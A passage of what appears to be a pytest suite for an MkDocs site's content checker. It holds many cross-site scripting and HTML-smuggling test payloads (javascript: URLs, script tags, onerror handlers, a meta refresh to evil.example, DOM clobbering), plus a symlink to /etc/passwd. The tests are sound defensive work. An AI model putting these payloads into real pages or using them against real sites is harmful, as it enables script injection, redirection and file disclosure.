    # value (here a redirect to another site, which no policy stops) became markup.
    ('<div title="<!-- home:hero-end --><meta http-equiv=refresh content=\'2;url=https://evil.example/\'>">x</div>',
     "<div …>: a marker such as <!-- site:… --> can stand only on a line of its own, not inside an HTML tag"),
    ('<div title=\'<section class="site-sources"\'>x</div>',
     '<div …>: a "<" inside an HTML tag; write &lt; for it in the text of an attribute'),
    # A space that Python counts and browsers do not (here a no-break space after "=") makes
    # the two read different attributes: the browser saw id=__config.
    ('<div hidden title=\u00a0"x id=__config y">x</div>',
     "<div …>: a browser would read this tag's attributes otherwise than the checks do; write each as "
     "name=\"value\", separated by ordinary spaces"),
    ('<p title==x>x</p>', "<p …>: a browser would read this tag's attributes otherwise than the checks do; write each as "
                          "name=\"value\", separated by ordinary spaces"),
    # The theme's classes would make content look like the site's own header or menu.
    ('<div class="md-header"><span class="md-ellipsis">Notice</span></div>',
     '<div class="md-header">: classes starting with md- style the theme\'s own parts (its header, menu and '
     'search); only md-button and md-button--primary are for pages'),
    ('<p class="note md-nav md-button">x</p>',
     '<p class="md-nav">: classes starting with md- style the theme\'s own parts (its header, menu and '
     'search); only md-button and md-button--primary are for pages'),
    ('<p style="background: image-set(\'https://tracker.example/x.png\' 1x)">x</p>',
     STYLE_REFUSED),
])
def test_refused_html(source, expected):
    assert expected in found(source)


JAVASCRIPT = ": javascript: addresses are not allowed (they run code or hide content in the address); link to an https:// address or to a file under docs/"


@pytest.mark.parametrize("source,shown", [
    ("[x](javascript:alert(1))", '<a href="javascript:alert(1)">'),
    ("[x](JaVaScRiPt:alert(1))", '<a href="JaVaScRiPt:alert(1)">'),
    ("[x](java&#x09;script:alert(1))", '<a href="java&#x09;script:alert(1)">'),
    ('<a href=" &#10;javascript:alert(1)">x</a>', '<a href=" &#10;javascript:alert(1)">'),
    ('<a href="javascript&colon;alert(1)">x</a>', '<a href="javascript&colon;alert(1)">'),
    ("[x][r]\n\n[r]: javascript:alert(1)", '<a href="javascript:alert(1)">'),
    ('![x](javascript:alert(1))', '<img src="javascript:alert(1)">'),
])
def test_javascript_addresses_in_every_disguise(source, shown):
    assert shown + JAVASCRIPT in found(source)


@pytest.mark.parametrize("url,scheme", [
    ("javascript:x", "javascript"), (" JaVa\tScRiPt:x", "javascript"), ("\x01vbscript:x", "vbscript"),
    ("DATA:text/html,x", "data"), ("https://example.org/a:b", "https"), ("images/a:b.png", ""),
    ("#javascript:x", ""), ("java\ufffdscript:x", ""),
])
def test_url_scheme_is_read_as_browsers_read_it(url, scheme):
    assert url_scheme(url) == scheme


@pytest.mark.parametrize("source", [
    "![Kartta](https://maps.example.com/helsinki.png)",
    '<img src="//cdn.example.com/x.png" alt="">',
    '<img srcset="images/a.png 1x, https://cdn.example.com/a2.png 2x" src="images/a.png" alt="">',
    '<video poster="http://example.com/p.jpg"></video>',
    # What the URL standard reads as "//host": tabs and new lines dropped, "\\" read as "/".
    '<img src="/&#9;/cdn.example.com/x.png" alt="">',
    '<img src="\\\\cdn.example.com\\x.png" alt="">',
    '<img src="/\\cdn.example.com/x.png" alt="">',
    '<img src=" //cdn.example.com/x.png" alt="">',
    '<img src="ftp://cdn.example.com/x.png" alt="">',
])
def test_nothing_is_loaded_from_other_sites(source):
    assert any("the site loads nothing from other sites; put the file under docs/" in m for m in found(source))


def test_a_link_may_not_report_its_clicks_to_another_address():
    assert found('<a href="#top" ping="https://tracker.example/p">Top</a>') == [
        "<a ping=…>: ping= reports every click on the link to another address; remove it"]


def test_a_download_link_may_not_name_the_saved_file():
    """Named tapahtumat.html, the site's events.json was saved as a web page that ran an event
    title's script when the reader opened it (hunt 20a)."""
    message = ("<a download=\"tapahtumat.html\">: a name for the saved file must end as the file's own does (.json), "
               "or leave download without a name; a name of another kind could save it as, say, a web page that runs "
               "on the reader's computer")
    assert found('<a href="../events.json" download="tapahtumat.html">Tapahtumat</a>') == [message]
    assert found('[Tapahtumat](../events.json){ download="tapahtumat.html" }') == [message]
    assert found('<a href="../events.ics" download>Kalenteri</a> <a href="../events.ics" download="">x</a>') == []
    assert found('<a href="../events.ics?v=2" download="Tapahtumat.ICS">Kalenteri</a>') == []
    assert [m.split(":", 1)[0] for m in found('<a href="images/logo" download="logo.svg">x</a>')] == [
        '<a download="logo.svg">']
    # The href a browser reads, not one written inside another attribute's value (hunt 21a).
    assert found('<a title=" href=x.html" href="../events.json" download="tapahtumat.html">T</a>') == [message]
    assert found('<a href="../events.json" href="x.html" download="tapahtumat.html">T</a>')[-1] == message


@pytest.mark.parametrize("source,written", [
    ("<details>\n<summary>Kuka allekirjoitti?</summary>\n\nKatso [Julistus](declaration.md).\n\n</details>",
     "[Julistus](declaration.md)"),
    ("<figure>\n\n![Kartta](images/logo.svg)\n\n<figcaption>Kartta</figcaption>\n</figure>", "![Kartta](images/logo.svg)"),
    ("<details markdown>\n<summary>**Kuka** allekirjoitti?</summary>\n\nVastaus.\n\n</details>", "**Kuka**"),
])
def test_markdown_left_as_text_inside_html_is_named(source, written):
    """A FAQ written as GitHub's preview shows it, with <details> and no markdown attribute,
    showed readers [Julistus](declaration.md) as written (hunt 21b)."""
    assert found(source) == [
        f"'{written}' is Markdown inside an HTML element, where it is shown as written: give the element the attribute "
        "markdown, as in <details markdown>, with an empty line after that line (the text of a <summary> is plain "
        "text, not Markdown)"]


def test_markdown_read_inside_html_and_markdown_in_code_are_fine():
    assert found("<details markdown>\n<summary>Kuka?</summary>\n\nKatso [Julistus](declaration.md).\n\n</details>\n\n"
                 "Write `[text](page.md)` or `**bold**`.\n\n    [indented](code.md)\n") == []


def test_links_to_other_sites_are_fine():
    assert found("[Helsinki](https://www.hel.fi/) <a href=\"http://example.org/\">x</a>") == []


def test_data_and_vbscript_addresses_are_refused():
    messages_ = found('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt=""> <a href="VBScript:msgbox">x</a>')
    assert any(message.startswith('<img src="data:image/svg+xml') and ": data: addresses" in message for message in messages_)
    assert any(message.startswith('<a href="VBScript:msgbox">: vbscript: addresses') for message in messages_)


def test_comment_tricks_do_not_hide_a_script():
    # A browser ends "<!-->" at once and runs the script; Python's parser would read one comment.
    assert "<script> is not allowed in a page: it runs a script" in found("<!--> <script>alert(1)</script> -->")
    assert "<script> is not allowed in a page: it runs a script" in [
        f.message for f in scan_html("<![CDATA[ x > <script>alert(1)</script> ]]>")
    ]


UNCLOSED_COMMENT = ("an HTML comment that Markdown cannot hide: it is not closed with -->, or it has an empty "
                    "line in it; readers would see it as text")


@pytest.mark.parametrize("comment,line", [("<!-- a draft\n\n## More\n", 12), ("## More\n\nText <!-- a draft\n\nstill the draft --> end.\n", 14)])
def test_a_comment_markdown_would_show_is_named_on_its_line(comment, line):
    source = f"---\ntitle: T\ndescription: D.\n---\n\n# T\n\n<!-- data:events -->\n\nText.\n\n{comment}"
    findings = scan_html(render(source.split("---\n", 2)[2]))
    assert [finding.message for finding in findings] == [UNCLOSED_COMMENT]
    assert messages(locate(source, findings, "f.md")) == [f"f.md:{line}: {UNCLOSED_COMMENT}"]


def test_a_comment_shown_as_code_or_closed_without_an_empty_line_is_fine():
    assert found("Write `<!--` to start a comment.\n\n```html\n<!-- a\n```\n\n<!-- a\nb -->\n\nText.\n") == []


def test_html_shown_as_code_is_text():
    source = """\
        Inline `<script>alert(1)</script>` and `[x](javascript:alert(1))`.

        ```html
        <script>alert(1)</script>
        <iframe src="https://example.org"></iframe>
        ```

            <img src=x onerror=alert(1)>
            <a href="javascript:alert(1)">x</a>
        """
    assert found(source) == []


THEME_NAMES = ("theme's own elements (its settings, search and menu); choose another name")
LATIN_HOSTS = ("the site links only to addresses whose host is written in the letters a-z, with or without accents, "
               "and ß, æ, ø, œ, þ, ð, ł, đ, ŋ, ħ, since other letters can look like them (hеl.fi with a Cyrillic е goes "
               "to another site than hel.fi); link to such an address of the site, or name the site without a link")


@pytest.mark.parametrize("source,expected", [
    ('<div id="__config">{"base": "https://evil.example/"}</div>',
     '<div id="__config">: names starting with __ belong to the ' + THEME_NAMES),
    ("## Settings {#__config}", '<h2 id="__config">: names starting with __ belong to the ' + THEME_NAMES),
    ("## __search", '<h2 id="__search">: names starting with __ belong to the ' + THEME_NAMES),
    ('<span id=" __drawer">x</span>', '<span id="__drawer">: names starting with __ belong to the ' + THEME_NAMES),
    ('<a name="__palette_0">x</a>', '<a name="__palette_0">: names starting with __ belong to the ' + THEME_NAMES),
    ('<div data-md-component="search-result">x</div>',
     "<div data-md-component=…>: data-md- attributes switch on parts of the theme's script; remove it"),
    ('Text\n{: data-md-color-scheme="slate" }',
     "<p data-md-color-scheme=…>: data-md- attributes switch on parts of the theme's script; remove it"),
    ('<img src="images/logo.svg" alt="" name="querySelector">',
     "<img name=…>: an image's name can hide the page's own functions from its scripts; remove it "
     "(an id is enough for a link to the image)"),
    ("![Kaupunkien logo](images/logo.svg){ name=getElementById }",
     "<img name=…>: an image's name can hide the page's own functions from its scripts; remove it "
     "(an id is enough for a link to the image)"),
])
def test_page_content_cannot_take_the_place_of_the_themes_own_elements(source, expected):
    assert found(source) == [expected]


@pytest.mark.parametrize("source", ["<div>\n<![<img src=//tracker.example/x\n</div>", "<p>a <![ b</p>"])
def test_markup_the_checks_cannot_read_is_refused_without_a_traceback(source):
    assert found(source) == ["HTML that these checks cannot read (\"<!\" that starts neither a comment nor a "
                             "declaration); write \"<\" as &lt; in text"]


def test_a_citation_or_marker_anywhere_but_the_text_or_its_own_comment_is_refused():
    """The last net: the tokens that the site replaces after these checks, counted in the page
    and where the checks read them as text (citations) or as comments of their own (markers)."""
    assert found("<!-- an old paragraph [[cite:kuntalehti-2019-02]] -->") == [
        "a citation [[cite:…]] can stand only in the text of the page, not in a comment or other markup"]
    assert found("Text\n\n<!-- draft: <!-- site:feedback -->\n") != []
    # A citation written with character references is text that nothing replaces: it may not
    # stand in for a hidden one in the count.
    assert "a citation [[cite:…]] can stand only in the text of the page, not in a comment or other markup" in found(
        "Text &#91;&#91;cite:kuntalehti-2019-02]] shown as it is.\n\n<!-- [[cite:kuntalehti-2019-02]] -->")


def test_allowed_html_passes():
    source = """\
        <div markdown>
        Text with <abbr title="Artificial intelligence">AI</abbr>, <kbd>Ctrl</kbd>, H<sub>2</sub>O.
        </div>

        <details><summary>More</summary><p>Hidden text.</p></details>

        <figure><img src="images/logo.svg" alt="Kaupunkien logo" width="10" height="10"><figcaption>A logo</figcaption></figure>

        [Mail](mailto:someone@example.org) · [Phone](tel:+358900000) · [Home](https://www.hel.fi/) ·
        [Page](declaration.md#commitment-co-creation){ title="The declaration" } · <a href="#top">Top</a>

        ## A heading with an id of its own {#my_section}

        <span id="note-1" aria-describedby="note-1">x</span> <img src="images/logo.svg" alt="" id="logo-image">

        [Read the declaration](declaration.md){ .md-button .md-button--primary } <span title="10\u00a0000 €">x</span>

        <p title='a "quoted" word' lang=fi aria-label = "spaced" translate=no>Kaupunkien ja [[cite:kuntalehti-2019-02]] yhteistyö.</p >

        <!-- a comment of the editors' own --> <div>x</div
        >

        <table><tr><td>a<td><b>b</b></td><th>c</tr><tr><td><a href="#top">d</a></table>

        <table><caption>Kaupungit</caption><tr><th scope="col" aria-sort="none">A</th><td colspan="2" rowspan="1">x</td></tr></table>

        <ol start="3" reversed><li value="5">kolme</li></ol> <time datetime="2019-02-13">13.2.2019</time>
        <details open><summary>Lisää</summary><p role="note" dir="ltr" translate="no">x</p></details>
        <a href="https://www.hel.fi/" hreflang="fi" rel="external" target="_blank" type="text/html">hel.fi</a>
        <img src="images/logo.svg" alt="" srcset="images/logo.svg 1x" sizes="10vw" decoding="async">
        <blockquote cite="https://www.hel.fi/">x</blockquote> <del datetime="2019-02-13">x</del>

        | Vasen | Keski |
        | :--- | :---: |
        | a | b |

        <img src="images/logo.svg" alt="A &quot;logo&quot; &amp; more"/><br/>

        <div role="region" aria-label="Taulukko" tabindex="0">x</div> <h2 tabindex="-1">Osio</h2>
        <div class="site-cards site-cards--two"><div class="site-card site-card--city">x</div></div>

        ## Lyhyesti { data-toc-label="Lyhyt" }

        ```python
        print("<b>koodi</b>")
        ```

        <section><header><h3>x</h3></header><article><p>y</p><footer>z</footer></article><aside>w</aside></section>
        <p><small>s</small> <mark>m</mark> <q>q</q> <cite>c</cite> <dfn>d</dfn> <var>v</var> <samp>s</samp> <wbr>
        <ruby>漢<rt>kan</rt></ruby> <bdi>x</bdi> <s>old</s> <u>u</u> <ins>i</ins></p> <hr> <address>a</address>
        <dl><dt>t</dt><dd>d</dd></dl> <picture><source srcset="images/logo.svg"><img src="images/logo.svg" alt=""></picture>
        <table><colgroup><col span="2"></colgroup><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody>
        <tfoot><tr><td>c</td></tr></tfoot></table> <h1>1</h1><h4>4</h4><h5>5</h5><h6>6</h6><pre><code>x</code></pre>
        <a href="images/logo.svg" download>Lataa logo</a> <a href="images/logo.svg" download="logo.svg">Logo</a>
        """
    assert found(source) == []


@pytest.mark.parametrize("source,expected", [
    # Only 0 (in the order of the page) and -1 (by script or link only): a positive number
    # moves the element ahead of the site's own skip link and menu in the keyboard's order.
    ('<p tabindex="1">x</p>', "<p tabindex=\"1\">: tabindex may be only 0 (the element can take the keyboard's "
                              "focus where it stands, such as a table that scrolls sideways) or -1"),
    ('<p tabindex="zero">x</p>', "<p tabindex=\"zero\">: tabindex may be only 0 (the element can take the keyboard's "
                                 "focus where it stands, such as a table that scrolls sideways) or -1"),
    # The old way to name a place for links: the theme's menu reads only ids.
    ('<a name="osio"></a>', '<a name=…>: write id="osio" instead (name= on a link is obsolete in HTML)'),
])
def test_attributes_with_a_rule_of_their_own(source, expected):
    assert found(source) == [expected]


# ------------------------------------------------------------------ markers (item 10)


def marker_messages(source: str, stem: str, markers=MARKERS) -> list[str]:
    comments: list[str] = []
    scan_html(render(source), comments)
    return [finding.message for finding in marker_findings(comments, markers, stem)]


def test_a_marker_on_its_own_page_once_is_fine():
    assert marker_messages("# Events\n\n<!-- data:events -->\n\n<!-- site:feedback -->\n", "events") == []
    assert marker_messages("# Privacy\n\n<!-- site:feedback -->\n", "privacy") == []


# The site's markers with the home page's: home.html splits the page at the first
# <!-- home:hero-end -->, so it is checked as the listings' markers are.
SITE_MARKERS = {**MARKERS, "home:hero-end": "index"}


@pytest.mark.parametrize("source,stem,expected", [
    ("<!-- data:events -->\n", "privacy",
     "<!-- data:events --> belongs on the page events only (mkdocs.yml extra.markers); remove it here"),
    ("<!-- data:events -->\n\nText\n\n<!-- data:events -->\n", "events",
     "<!-- data:events --> is on this page twice; keep one: the listing goes where it stands"),
    ("# Events\n", "events",
     "the page needs the marker <!-- data:events --> where its listing goes (mkdocs.yml extra.markers)"),
    ("<!--data:partners-->\n", "privacy", "marker written as <!--data:partners-->; write it exactly <!-- data:partners -->"),
    ("<!-- DATA:events -->\n", "privacy", "marker written as <!-- DATA:events -->; write it exactly <!-- data:events -->"),
    ("<!-- data: events -->\n", "privacy", "marker written as <!-- data: events -->; write it exactly <!-- data:events -->"),
    ("<!--  site:feedback -->\n", "privacy", "marker written as <!--  site:feedback -->; write it exactly <!-- site:feedback -->"),
    ("<!-- data:partner -->\n", "privacy",
     "unknown marker <!-- data:partner -->; known: data:events, data:partners, home:hero-end, site:feedback"),
    ("Lead\n\n<!-- home:hero-end -->\n\nText\n\n<!-- home:hero-end -->\n", "index",
     "<!-- home:hero-end --> is on this page twice; keep one: the hero ends where it stands"),
    ("<!-- home:hero-end -->\n", "privacy",
     "<!-- home:hero-end --> belongs on the page index only (mkdocs.yml extra.markers); remove it here"),
    ("<!-- HOME:hero-end -->\n", "index", "marker written as <!-- HOME:hero-end -->; write it exactly <!-- home:hero-end -->"),
    ("# Home\n", "index", "the page needs the marker <!-- home:hero-end --> where the hero ends (mkdocs.yml extra.markers)"),
])
def test_marker_problems(source, stem, expected):
    assert expected in marker_messages(source, stem, SITE_MARKERS)


def test_the_site_names_the_home_pages_marker():
    text = (ROOT / "mkdocs.yml").read_text("utf-8")
    assert "\n    home:hero-end: index\n" in text


def test_markers_shown_as_code_are_left_alone():
    source = """\
        # Events

        <!-- data:events -->

        Write `<!-- data:partners -->` where the partners go, or `<!--data:events-->`.

        ```markdown
        <!-- data:events -->
        <!-- DATA:partners -->
        ```

            <!-- data:events -->
        """
    assert marker_messages(source, "events") == []


def test_an_ordinary_comment_is_not_a_marker():
    assert marker_messages("<!-- TODO: data about events, see issue 4 -->\n", "privacy") == []


# ------------------------------------------------------------------ lines in the source


def test_findings_land_on_their_own_lines_skipping_code():
    source = GOOD + "\nShown: `<script>`\n\n<script>a()</script>\n\n<script>b()</script>\n"
    findings = scan_html(render(source[len(GOOD):]))
    assert [p.line for p in locate(source, findings, "docs/x.fi.md")] == [10, 12]



def test_an_id_that_is_not_plain_lands_on_the_line_that_gives_it():
    """Its finding looked for the word "id" and landed on the first one not taken, lines away."""
    source = GOOD + "\nThe valid id of a heading.\n\n## Osio { #oma-id }\n\n## Yhteistyö { #yhteistyö }\n\n<p id='ä'>x</p>\n"
    findings = scan_html(render(source[len(GOOD):]))
    assert [p.line for p in locate(source, findings, "docs/x.fi.md")] == [12, 14]

def test_a_repeated_marker_is_placed_on_the_copy():
    source = GOOD + "<!-- data:events -->\n\ntext\n\n<!-- data:events -->\n"
    findings = [Finding("twice", (re.escape("<!-- data:events -->"),), occurrence=1)]
    assert messages(locate(source, findings, "f.md")) == ["f.md:11: twice"]


def test_a_finding_without_a_place_goes_to_the_first_line_of_the_markdown():
    assert messages(locate(GOOD, [Finding("missing")], "f.md")) == ["f.md:5: missing"]


def test_code_ranges_cover_fences_indented_blocks_and_inline_code():
    source = "a `x` b\n\n```\ncode\n```\n\n    indented\n"
    covered = "".join(source[begin:end] for begin, end in code_ranges(source))
    assert covered == "`x````\ncode\n```    indented\n"


def test_a_position_is_inside_code_exactly_where_a_range_of_code_is():
    """_inside bisects the ranges (every range read for every check took minutes on a page of
    20,000 code lines, hunt 17a): it answers as reading every range does, at every position."""
    from _pages import _inside

    source = ("a `x` b `y`\n\n```\ncode\n```\n\n    indented\n    more\n\n~~~~\n```\n~~~~\ntext `z`\n\n\tcode\n"
              "``two ` ticks``\n")
    code = code_ranges(source)
    assert code == sorted(code) and all(end <= begin for (_, end), (begin, _) in zip(code, code[1:]))
    assert [_inside(p, code) for p in range(len(source) + 1)] == [
        any(begin <= p < end for begin, end in code) for p in range(len(source) + 1)]
    assert not _inside(0, []) and _inside(2, code) and not _inside(1, code)


def test_problem_without_line():
    assert str(Problem("docs/a", None, "m")) == "docs/a: m"


# ------------------------------------------------------------------ real strict builds


def build(root, env: dict | None = None):
    result = build_site(root / "site", "http://127.0.0.1/x/", env, config=root / "mkdocs.yml")
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output
    return result, output


def problem_lines(output: str, prefix: str = ("docs/", "overrides/", "data/", "hooks/", "mkdocs.yml")) -> list[str]:
    return [line.strip() for line in output.splitlines() if line.strip().startswith(prefix)]


def edit(path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("name,plain", [
    ('p"><meta http-equiv="refresh" content="0;url=x.fi.md', "p-meta-http-equiv-refresh-content-0-url-x.fi.md"),
    ("images/a?b#c.svg", "images/a-b-c.svg"),
    ("images/kartta äänekoski.png", "images/kartta-aanekoski.png"),
    ("uutiset/yhteistyö.fi.md", "uutiset/yhteistyo.fi.md"),
    ("images/-x.png", "images/x.png"),
    ("images/logo@2x.png", "images/logo-2x.png"),
])
def test_a_file_name_that_is_not_a_plain_address_is_refused_with_a_plain_one(name, plain):
    """A name becomes the page's address and its edit link: quotes in it broke out of the
    edit link's href in a preview, where a new page's missing nav entry is only a note."""
    assert messages(file_name_problems([name])) == [
        f"docs/{name}: a file or folder name here may hold only the letters a-z and A-Z, digits, '-', '_' and '.' "
        f"(not at its start): it becomes part of the page's address; rename it, such as docs/{plain}"]


def test_the_sites_own_file_names_are_plain():
    names = [path.relative_to(ROOT / "docs").as_posix() for path in (ROOT / "docs").rglob("*") if path.is_file()]
    assert names and file_name_problems(names) == []


def test_symlinks_and_unsuffixed_pages_stop_the_build_before_anything_is_written(tmp_path):
    root = copy_site(tmp_path / "copy")
    os.symlink("/etc/passwd", root / "docs/images/p.txt")
    os.symlink("/nonexistent", root / "overrides/partials/gone.html")
    os.symlink("/etc", root / "data/etc")
    (root / "docs/plain.md").write_text(GOOD)
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        "data/etc: is a symbolic link (to /etc); the site publishes only files kept in the repository: replace the link with a real file",
        "docs/images/p.txt: is a symbolic link (to /etc/passwd); the site publishes only files kept in the repository: replace the link with a real file",
        "docs/plain.md: a page file's name ends with its language: rename it to plain.fi.md and plain.en.md",
        "overrides/partials/gone.html: is a symbolic link (to /nonexistent); the site publishes only files kept in the repository: replace the link with a real file",
    ]
    assert not (root / "site/images/p.txt").exists()
    assert "root:" not in output


def test_files_git_obeys_addresses_named_like_files_and_pages_not_in_utf8_stop_the_build(tmp_path):
    """Hunt 14: docs/.gitattributes re-encoded the site's style sheet and script at checkout
    (UTF-16), which switched off every defence in site.css; a page events.ics.fi.md became a
    folder beside the calendar the build writes, and a page saved as Latin-1 ended the build
    in a traceback with neither file nor line."""
    root = copy_site(tmp_path / "copy")
    (root / "docs/.gitattributes").write_text("stylesheets/site.css working-tree-encoding=UTF-16LE\n")
    for locale in ("fi", "en"):
        (root / f"docs/events.ics.{locale}.md").write_text(GOOD)
    (root / "docs/images/kartta.v2").mkdir()
    (root / "docs/images/kartta.v2/logo.svg").write_bytes((root / "docs/images/logo.svg").read_bytes())
    page = root / "docs/privacy.fi.md"
    page.write_bytes(page.read_text().replace("Tietosuoja", "Tietosuojak\u00e4yt\u00e4nt\u00f6", 1).encode("latin-1"))
    line = next(number for number, text in enumerate(page.read_bytes().split(b"\n"), start=1) if b"\xe4" in text)
    result, output = build(root)
    assert result.returncode != 0 and "Traceback" not in output
    assert problem_lines(output) == [
        "docs/.gitattributes: git reads this file when it checks the site out, and it could change the site's own files "
        "there or hide files from git; delete it",
        *(f"docs/events.ics.{locale}.md: a page's name may hold '.' only before its language: its address would be a "
          "folder named like a file (events.ics/), such as those the build writes; rename it, such as "
          f"docs/events-ics.{locale}.md" for locale in ("en", "fi")),
        "docs/images/kartta.v2/: a folder's name may not hold '.': it would be named like a file, such as those the "
        "build writes; rename it, such as docs/images/kartta-v2/",
        f"docs/privacy.fi.md:{line}: byte 0xe4 is not UTF-8 text (invalid continuation byte); save the file as UTF-8",
    ]


def test_a_file_other_than_a_page_named_with_a_language_stops_the_build(tmp_path):
    """mkdocs-static-i18n published docs/images/logo.fi.svg as images/logo.svg, the site's own
    logo on the pages of both languages (hunt 20b)."""
    root = copy_site(tmp_path / "copy")
    fake = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1" fill="red"/></svg>'
    (root / "docs/images/logo.fi.svg").write_text(fake)
    (root / "docs/images/kartta.en.png").write_bytes((root / "docs/images/og-fi.png").read_bytes())
    (root / "docs/images/kartta.v2-fi.png").write_bytes((root / "docs/images/og-fi.png").read_bytes())  # no language
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/images/{name}.{locale}.{kind}: only pages have their language in their name: the build would publish "
        f"this file as images/{name}.{kind}, in place of any docs/images/{name}.{kind}, for every language; rename "
        f"it, such as docs/images/{name}-{locale}.{kind}, and link to that name"
        for name, locale, kind in (("kartta", "en", "png"), ("logo", "fi", "svg"))
    ]
    assert not (root / "site/images/logo.svg").exists() or fake not in (root / "site/images/logo.svg").read_text()


def test_a_page_saved_with_windows_line_ends_and_a_byte_order_mark_builds(tmp_path):
    """Notepad, VS Code on Windows and GitHub's upload save pages so; the front matter check
    read "---\\r" as no front matter (hunt 15b)."""
    root = copy_site(tmp_path / "copy")
    for name in ("declaration.fi.md", "declaration.en.md"):
        page = root / "docs" / name
        page.write_bytes(b"\xef\xbb\xbf" + page.read_bytes().replace(b"\n", b"\r\n"))
    result, output = build(root)
    assert result.returncode == 0, output[-2000:]


# ------------------------------------------------------------------ ids used twice on a page

def ids_used_twice(html: str) -> list[str]:
    """The ids used twice, as the build finds them in the finished page (guards.on_post_page)."""
    from _tree import fence, tree_problems
    return repeated(tree_problems(f"<html><body>{fence(html)}<footer class='md-footer'></footer></body></html>").ids)


def test_ids_used_twice_are_found_in_the_final_page():
    html = ('<h2 id="sources">Sources</h2><p id=\'a\'>x</p><div data-id="sources"></div>'
            '<h2 id="sources">Lähteet</h2><span id="a"></span><i id="b"></i>'
            '<p>Write id="b" twice: <code>id="b"</code></p><a class="x"\n   id="c"></a><a id="c">')
    assert ids_used_twice(html) == ["sources", "a", "c"]


def test_ids_are_read_however_the_attribute_is_written():
    """Unquoted, in capitals, with spaces around "=", after a quoted ">" or a "title" that
    mentions an id: each as a browser reads it (the first id of a tag counts)."""
    html = ('<h2 id="sources">Sources</h2><p id=sources>x</p><p ID="d">x</p><p id = "d">x</p>'
            '<p title="a>b" id="e">x</p><p id="e" id="f">x</p><p title="id=f">x</p><p id=\'f\'>x</p>'
            '<p id="g&amp;h"></p><p id="g&h"></p>')
    assert ids_used_twice(html) == ["sources", "d", "e", "g&h"]


@pytest.mark.parametrize("line", ['<p id=sources>x</p>', '<p ID="sources">x</p>', "<p id = 'sources'>x</p>"])
def test_the_line_of_an_id_written_otherwise(line):
    assert id_line(f"# T\n\n{line}\n", "sources") == 3


@pytest.mark.parametrize("source,found", [
    ("# T\n\nText.\n\n## Sources\n", 5),
    ("# T\n\n## Lähteet { #sources }\n", 3),
    ('# T\n\n<div id="sources" markdown>\n', 3),
    ("# T\n\n```\n## Sources\n```\n", None),  # shown as code
    ("# T\n", None),
])
def test_the_line_of_an_id_is_its_heading_or_its_attribute(source, found):
    assert id_line(source, "sources") == found


def test_a_heading_that_takes_an_id_of_the_site_stops_the_build(tmp_path):
    # "## Sources" gets the id of the list of sources the page ends with: the page's
    # citation links would reach the heading instead of the list.
    root = copy_site(tmp_path / "copy")
    lines = {}
    for name, heading in (("cities.en.md", "## Sources"), ("cities.fi.md", "## Lähteet { #sources }")):
        page = root / "docs" / name
        page.write_text(page.read_text() + f"\n{heading}\n\nMore text.\n")
        lines[name] = page.read_text().splitlines().index(heading) + 1
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [  # both languages' pages in one run
        f"docs/{name}:{line}: the id 'sources' is on the page twice, so links to #sources reach only the first: "
        "give this heading or element an id of its own, such as { #sources-2 } (the site itself may use the id, "
        "as for the list of sources; and a browser copies an element such as <b id=…> left open across paragraphs "
        "into each of them)" for name, line in lines.items()]



def test_an_id_of_the_events_listing_taken_by_the_page_stops_the_build(tmp_path):
    """The Events listing is written into the page after the other hooks have read it (it is
    streamed, hooks/_page_writer.py), so its ids are checked from what the listing will hold:
    its headings and each event's item."""
    root = copy_site(tmp_path / "copy")
    additions = {"events.en.md": "## Past events", "events.fi.md": "## Tapaaminen { #event-mayors-meet-london-2019 }"}
    lines = {}
    for name, heading in additions.items():
        page = root / "docs" / name
        page.write_text(page.read_text().replace("<!-- data:events -->", f"{heading}\n\nText.\n\n<!-- data:events -->"))
        lines[name] = page.read_text().splitlines().index(heading) + 1
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/{name}:{lines[name]}: the id '{element_id}' is on the page twice, so links to #{element_id} reach only "
        f"the first: give this heading or element an id of its own, such as {{ #{element_id}-2 }} (the site itself "
        "may use the id, as for the list of sources; and a browser copies an element such as <b id=…> left open "
        "across paragraphs into each of them)"
        for name, element_id in (("events.en.md", "past-events"), ("events.fi.md", "event-mayors-meet-london-2019"))]

def test_a_direction_control_in_a_page_is_named_with_its_line():
    text = GOOD + "\nThe file is called Helsinki\u202etxt.exe here.\n\nAnd \u2067here\u2069.\n"
    assert messages(direction_control_problems(text, "f.md")) == [
        "f.md:8: the page holds U+202E, a direction control that can show the text in another order than it is "
        "written; remove it",
        "f.md:10: the page holds U+2067, a direction control that can show the text in another order than it is "
        "written; remove it",
    ]
    assert direction_control_problems(GOOD + "\nkaupunki\u00advertailu\n", "f.md") == []


def test_front_matter_that_mkdocs_itself_cannot_read_is_a_problem_on_its_line():
    """MkDocs reads front matter with PyYAML, which takes 2019-02-30 for a date and fails: it
    then drops the whole front matter and shows it to readers as the page's first lines."""
    text = "---\ntitle: Teemat\ndescription: 2019-02-30\n---\n\n# Teemat\n"
    assert messages(front_matter_problems(text, "f.md")) == [
        "f.md:3: MkDocs cannot read this line of the front matter (day is out of range for month); put the value in "
        "quotes, such as description: \"2019-02-30\""]


@pytest.mark.parametrize("character", ["\x85", "\x9b", "\x80"])
def test_a_c1_control_character_is_named_too_never_a_traceback(character):
    """U+0085 (next line) in a tag ended the build in a traceback: it has no name to show."""
    text = GOOD + f"\n<span{character}title=\"a\">x</span>\n\n## Otsikko {{{character}#x }}\n"
    message = (f"the page holds the control character U+{ord(character):04X}, which is invisible and which browsers "
               "and these checks read differently; remove it")
    assert messages(control_character_problems(text, "f.md")) == [f"f.md:8: {message}", f"f.md:10: {message}"]
    assert markup_space_problems(text, "f.md") == []


def test_a_control_character_in_a_page_is_named_with_its_line():
    """A NUL after a tag's name ended the tag for Python's parser, and the browser read the
    attributes after it (id=__config) that no check had seen."""
    text = GOOD + "\n<div\x00 id=__config hidden>{}</div>\n\nA bell\x07 and a form feed\x0c.\n\nTabs\tare fine.\r\n"
    assert messages(control_character_problems(text, "f.md")) == [
        "f.md:8: the page holds the control character U+0000, which is invisible and which browsers and these checks "
        "read differently; remove it",
